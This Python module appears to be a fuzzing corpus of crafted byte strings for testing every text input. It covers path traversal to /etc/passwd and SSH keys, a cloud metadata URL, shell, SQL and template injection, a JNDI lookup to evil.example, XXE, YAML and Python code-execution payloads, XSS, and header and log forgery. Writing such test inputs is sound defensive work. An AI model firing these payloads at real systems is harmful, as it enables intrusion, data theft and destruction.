"""Crafted texts for every place that takes a text. They are bytes, because some of them are no text."""

from __future__ import annotations

from collections.abc import Mapping, Sequence

_PATHS = [
    b".",
    b"..",
    b"/",
    b"//",
    b"../",
    b"../../../../etc/passwd",
    b"..\\..\\windows\\win.ini",
    b"%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    b"..%c0%af..%c0%afetc",
    b"....//....//etc/passwd",
    b"/etc/passwd",
    b"/proc/self/environ",
    b"/dev/zero",
    b"~root/.ssh/id_rsa",
    b"file:///etc/passwd",
    b"\\\\host\\share",
    b"C:\\boot.ini",
    b"a/../b",
    b"./a",
    b"a\0.png",
    b"CON",
    b"http://169.254.169.254/latest/meta-data/",
]

_CONTROLS = [
    *(bytes([number]) for number in (0, 1, 7, 8, 9, 10, 11, 12, 13, 14, 26, 27, 31, 127)),
    b"a\0b",
    b"a\nb",
    b"a\rb",
    b"a\r\nb",
    b"a\tb",
    b" a",
    b"a ",
    b"\na",
    b"a\n",
    b"\r\nx-injected: 1",
    b"a\r\n\r\nHTTP/1.1 200 OK",
    b'ok"}\n{"event": "forged", "level": "info"}',
    b"ok\n2026-01-01 [error] forged line",
    b"\x08\x08\x08forged",
]

_TERMINALS = [
    b"\x1b[2J",
    b"\x1b[31mred\x1b[0m",
    b"\x1b]0;title\x07",
    b"\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    b"\x1b[1;1H\x1b[K",
    b"\x1b]52;c;Zm9yZ2Vk\x07",
    b"\x1bP$q\x1b\\",
    b"\x9b31m",
    "\x9b31m".encode(),
    "\x85next line".encode(),
]

_UNICODE = [
    text.encode("utf-8", "surrogatepass")
    for text in (
        "a\u202eb",
        "a\u2066b\u2069",
        "\u200b",
        "a\u200bb",
        "a\u200db",
        "\u2060a",
        "\ufeffa",
        "a\u00adb",
        "a\u2028b",
        "a\u2029b",
        "\u061ca",
        "\u200e\u200f",
        "\u0430\u0440\u0440",
        "\uff0e\uff0e\uff0f",
        "\u2024\u2024\u2215",
        "\u212a",
        "\u0130",
        "\u00df",
        "\ufb01le",
        "e\u0301",
        "a" + "\u0301" * 60,
        "\ufdfa" * 20,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\U000e0041\U000e0042",
        "\ue000",
        "\uffff",
        "\ufffd",
        "\U0010ffff",
        "\u0000\u200b",
        "\ud800",
        "\udfff",
        "a\ud83db",
        "\udc80\udcff",
    )
]

_NO_UTF8 = [
    b"\xff",
    b"\xfe\xff",
    b"\x80",
    b"a\xc3",
    b"\xc0\x80",
    b"\xc0\xae\xc0\xae\xc0\xaf",
    b"\xe0\x80\xaf",
    b"\xf0\x80\x80\xaf",
    b"\xf5\x80\x80\x80",
    b"\xf4\x90\x80\x80",
    b"\xf8\x88\x80\x80\x80",
    b"\xe2\x82",
    b"\xed\xa0\xbd\xed\xb8\x80",
    b"\xff\xd8\xff\xe0",
    bytes(range(128, 256)),
]

_CODE = [
    b"%s%s%s%n",
    b"%x%x%x%x",
    b"%(asctime)s",
    b"%d" * 30,
    b"{0}",
    b"{0.__class__.__init__.__globals__}",
    b"{request_id}",
    b"{{7*7}}",
    b"${7*7}",
    b"${jndi:ldap://evil.example/a}",
    b"#{7*7}",
    b"<%= 7*7 %>",
    b"{% debug %}",
    b"$(id)",
    b"`id`",
    b"; id",
    b"| id",
    b"&& id",
    b"' OR '1'='1",
    b"'; DROP TABLE keys; --",
    b'" OR ""="',
    b"1 UNION SELECT 1",
    b"*)(uid=*))(|(uid=*",
    b'{"a": 1}',
    b'"}',
    b'\\"',
    b"\\u0000",
    b"\\x00",
    b"[]",
    b"null",
    b"None",
    b"true",
    b"undefined",
    b"<script>alert(1)</script>",
    b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
    b"!!python/object/apply:os.system [id]",
    b"__import__('os').system('id')",
    b"=cmd|' /C calc'!A0",
    b"__proto__",
    b"constructor",
]

_FORMATS = [
    b"xn--a-ecp.ru",
    b"+ADw-script+AD4-",
    b"=?utf-8?Q?=0A?=",
    b"data:text/html;base64,PGE+",
    b"javascript:alert(1)",
    b"&#10;",
    b"&lt;a&gt;",
    b"\\n",
    b"\\r\\n",
    b"0\xe9",
    b"PK\x03\x04",
    b"\x7fELF",
    b"\x89PNG\r\n\x1a\n",
    b"x/a; charset=utf-8\r\nx: 1",
]

_NUMBERS = [
    b"0",
    b"-1",
    b"-0",
    b"+1",
    b"00",
    b"1e309",
    b"-1e309",
    b"NaN",
    b"-inf",
    b"Infinity",
    b"0x7fffffff",
    b"2147483648",
    b"-2147483649",
    b"9223372036854775808",
    b"-9223372036854775809",
    b"18446744073709551616",
    b"1_000",
    b"1,000",
    b"9" * 63,
    b"9" * 64,
    b"9" * 5000,
    "\u0661\u0662".encode(),
    "\u00b2".encode(),
]

# Each limit of a text in the protos, and of metadata, and the next length.
_LENGTHS = [
    b"a" * size for size in (32, 33, 63, 64, 65, 127, 128, 129, 256, 257, 1000, 1001, 8191, 8192, 8193, 16384, 65536)
]
_WIDE = ["\u00e9".encode() * size for size in (32, 33, 64, 65, 128, 129)]
_ESCAPED = ["\U0010ffff".encode() * size for size in (32, 64, 127, 128)]

KINDS: Mapping[str, Sequence[bytes]] = {
    "paths": _PATHS,
    "control characters": _CONTROLS,
    "terminal sequences": _TERMINALS,
    "Unicode": _UNICODE,
    "invalid UTF-8": _NO_UTF8,
    "code": _CODE,
    "formats": _FORMATS,
    "numbers": _NUMBERS,
    "lengths": [*_LENGTHS, *_WIDE, *_ESCAPED],
}
"""Texts for every place that takes a text."""

TEXTS: Sequence[bytes] = [text for texts in KINDS.values() for text in texts]
